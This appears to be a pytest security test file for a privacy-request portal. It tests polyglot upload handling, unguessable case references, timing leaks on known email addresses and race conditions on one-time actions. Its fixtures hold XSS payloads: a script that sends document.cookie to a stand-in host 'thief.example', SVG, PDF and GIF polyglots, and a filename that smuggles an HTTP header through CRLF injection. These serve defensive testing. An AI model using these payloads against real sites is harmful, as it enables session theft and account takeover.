"""SEC-4, 5, 35 and 41: what shows only when it is tried often, and files that are two things at once."""

import statistics
import string
import time
from pathlib import Path

import pytest

from portal import audit, cases, db, identity
from portal.cases import moves
from portal.lib import ids
from tests.attacks.test_requests import at_once
from tests.cases.shops import OLGA, PETRA, Company, code_to, collected, found_company, visit
from tests.cases.test_handover import delivered
from tests.conftest import House, on_both
from tests.people import ANA, Browser, go_to_work, hire, sign_in

ROUNDS = 200
READABLE = string.ascii_letters + string.digits + "-_"
PICTURE, PAPER = b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n"
SCRIPT = b"<script>fetch('https://thief.example/' + document.cookie)</script>"
POLYGLOTS = {
    "picture.png.html": PICTURE + SCRIPT,
    "picture.svg": PICTURE + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "paper.pdf.js": PAPER + b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj/*" + SCRIPT,
    "moving.gif": b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)//",
    "photo.jpg.xml": b"\xff\xd8\xff<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT,
    'a"\r\nContent-Type: text/html\r\n\r\n.txt': SCRIPT,
}


@pytest.fixture
def company(published_house: House, tmp_path: Path) -> Company:
    return found_company(published_house, tmp_path / "company")


async def test_a_file_that_is_two_things_runs_in_no_browser(company: Company) -> None:
    """SEC-41: whatever its name and its sender say."""
    case_id = await collected("access")
    async with Browser() as ana, Browser() as olga:
        await sign_in(ana, ANA)
        page = f"/requests/{await cases.reference_of(case_id)}"
        for name, content in POLYGLOTS.items():
            sent = await ana.post(page + "/messages", data={"text": "Look."}, files=[("files", (name, content, "text/html"))])
            assert sent.status_code == 200 and SCRIPT.decode() not in sent.text, name
        await go_to_work(olga, await hire("olga@example.com", "privacy-officer"))
        files = [each for said in await cases.conversation.thread(case_id) for each in said.files]
        assert len(files) == len(POLYGLOTS)
        for file in files:
            answer = await olga.get(f"/admin/cases/{case_id}/messages/{file.id}")
            assert answer.content in POLYGLOTS.values() and answer.headers["content-type"] == "application/octet-stream"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-disposition"].startswith("attachment;")
            assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")


@pytest.mark.deep
async def test_ten_thousand_references_beside_a_real_one_lead_nowhere(company: Company) -> None:
    """SEC-5: each neighbour by one letter, and others at random; and no letter at any place is likelier than another."""
    real = await cases.reference_of(await collected("access"))
    near = [f"{real[:at]}{letter}{real[at + 1 :]}" for at in range(len(real)) for letter in READABLE if letter != real[at]]
    drawn = [ids.secret(128) for _each in range(10_000)]
    async with Browser() as stranger:
        found = [await stranger.get(f"/requests/{each}") for each in near]
        assert {each.status_code for each in found} == {404}
        assert len({answer.text.replace(asked, "") for answer, asked in zip(found, near, strict=True)}) == 1
        for each in drawn[: 10_000 - len(near)]:
            assert (await stranger.get(f"/requests/{each}")).status_code == 404
    assert len(set(drawn)) == len(drawn) and all(len(each) == len(real) == 22 for each in drawn)
    for at in range(21):  # the last holds the two bits that are left
        often = [sum(each[at] == letter for each in drawn) for letter in READABLE]
        assert sum((each - 156.25) ** 2 / 156.25 for each in often) < 120, at  # chi-square, 63 degrees: 1 in 100,000


@pytest.mark.deep
async def test_how_long_an_answer_takes_tells_nobody_who_is_known(company: Company) -> None:
    """SEC-4: 200 known and 200 unknown addresses in turn, the medians at most 5 ms apart, each with one mail on its way."""
    took: dict[bool, list[float]] = {True: [], False: []}
    for number in range(400):
        known, address = number % 2 == 0, f"person{number}@example.com"
        peer = f"10.{number // 256}.{number % 256}.1"
        if known:
            async with Browser(peer) as owner:
                await sign_in(owner, address)
        async with Browser(peer) as asker:
            await asker.get("/requests/new")
            [before] = await db.rows("SELECT count(*) AS n FROM message")
            began = time.perf_counter()
            asked = await asker.post("/requests", data={"right": "access", "email": address}, follow_redirects=False)
            took[known].append(time.perf_counter() - began)
            assert asked.status_code == 303
            [after] = await db.rows("SELECT count(*) AS n FROM message")
            assert after["n"] == before["n"] + 1
    apart = abs(statistics.median(took[True]) - statistics.median(took[False]))
    assert apart <= 0.005, f"{apart * 1000:.2f} ms"


@on_both
@pytest.mark.deep
@pytest.mark.timeout(1800)
async def test_two_hundred_times_one_of_twenty_has_an_effect(house: House, tmp_path: Path) -> None:
    """SEC-35: an approval, a code, a download."""
    found_company(house, tmp_path / "company")
    case_id = await collected("access")
    await cases.triage(case_id, officer=OLGA, flags=["third party"])
    await cases.review(case_id, officer=OLGA)
    for round_ in range(ROUNDS):
        await cases.propose(case_id, answer="partly", reasons=f"Somebody else's, {round_}.", officer=OLGA)
        waiting = await cases.proposal(case_id)
        assert waiting is not None
        assert await at_once(lambda: cases.approve(case_id, waiting.digest, officer=PETRA)) == 1  # noqa: B023
        async with db.writing():
            await moves.void(await moves.lock(case_id), actor="system")
    assert len(await audit.search(case=case_id, event="case.approved", limit=500)) == ROUNDS
    ready, session = await delivered(), await visit()
    for round_ in range(ROUNDS):
        secret = await cases.hand_over(ready, session)
        assert await at_once(lambda: cases.download(secret, session)) == 1  # noqa: B023
        address = f"person{round_}@example.com"
        challenge = await identity.challenge(address, language="en")
        code = await code_to(address)
        assert await at_once(lambda: identity.prove_code(challenge.id, code)) == 1  # noqa: B023
    assert len(await audit.search(case=ready, event="case.downloaded", limit=500)) == ROUNDS
